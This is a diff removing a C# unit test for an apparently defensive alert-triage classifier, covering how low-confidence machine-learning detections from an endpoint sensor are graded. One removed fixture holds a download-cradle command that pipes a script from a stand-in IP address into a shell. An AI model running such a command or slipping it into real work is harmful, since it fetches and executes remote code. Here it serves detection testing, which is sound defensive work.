@@ -381,35 +381,6 @@ public sealed class EndpointProductTests
         Assert.NotEqual(Classification.Benign, shell.Classification);
     }
 
-    private static object FalconMl(string description, string commandLine, string filePath) => new
-    {
-        metadata = new { eventType = "DetectionSummaryEvent", eventCreationTime = 1794881500000 },
-        @event = new
-        {
-            ComputerName = "GX-BLD-07", UserName = "j.dev", DetectName = "SensorML", DetectDescription = description, Severity = 2, SeverityName = "Low",
-            FileName = "python3", FilePath = filePath, CommandLine = commandLine, ParentCommandLine = "bash build.sh", DetectId = "ldt:1f:1",
-        },
-    };
-
-    [Fact]
-    public void A_low_confidence_ml_grade_is_not_a_named_threat_but_a_threat_word_beside_it_or_a_high_confidence_grade_is()
-    {
-        const string low = "This file meets the machine learning-based on-sensor AV protection's low confidence threshold for malicious files.";
-        var pip = Assess(FalconMl(low, "python3 -m pip install -r requirements.txt", "/srv/build/.venv/lib/python3.12/site-packages/markupsafe/"));
-        Assert.DoesNotContain(pip.Evidence, e => e.Key == "threat_named");
-
-        var trojan = Assess(FalconMl(low + " Trojan.Agent", "python3 -m pip install -r requirements.txt", "/srv/build/.venv/lib/python3.12/site-packages/markupsafe/"));
-        Assert.Contains(trojan.Evidence, e => e.Key == "threat_named");
-        Assert.NotEqual(Classification.Benign, trojan.Classification);
-
-        var high = Assess(FalconMl(low.Replace("low confidence", "high confidence", StringComparison.Ordinal), "python3 -m pip install -r requirements.txt", "/srv/build/.venv/lib/python3.12/site-packages/markupsafe/"));
-        Assert.NotEqual(Classification.Benign, high.Classification);
-
-        // A low-confidence grade on a download cradle stays open: the command itself is the evidence.
-        var cradle = Assess(FalconMl(low, "bash -c \"curl -fsSL http://203.0.113.9/x.sh | sh\"", "/tmp/"));
-        Assert.NotEqual(Classification.Benign, cradle.Classification);
-    }
-
     [Fact]
     public void A_task_service_or_run_key_starting_a_program_in_its_product_folder_closes_but_one_dropped_elsewhere_or_named_a_threat_stays_open()
     {
